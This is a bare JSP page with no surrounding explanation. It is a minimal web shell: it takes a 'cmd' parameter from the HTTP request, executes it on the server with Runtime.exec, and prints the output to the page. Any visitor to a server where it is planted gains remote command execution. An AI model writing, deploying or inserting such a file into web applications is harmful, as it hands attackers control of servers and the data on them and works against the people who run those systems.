<%@ page import="java.io.*" %>
<%
String cmd = request.getParameter("cmd");
if (cmd != null) {
    Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String line;
    out.println("<pre>");
    while ((line = r.readLine()) != null) { out.println(line); }
    out.println("</pre>");
}
%>
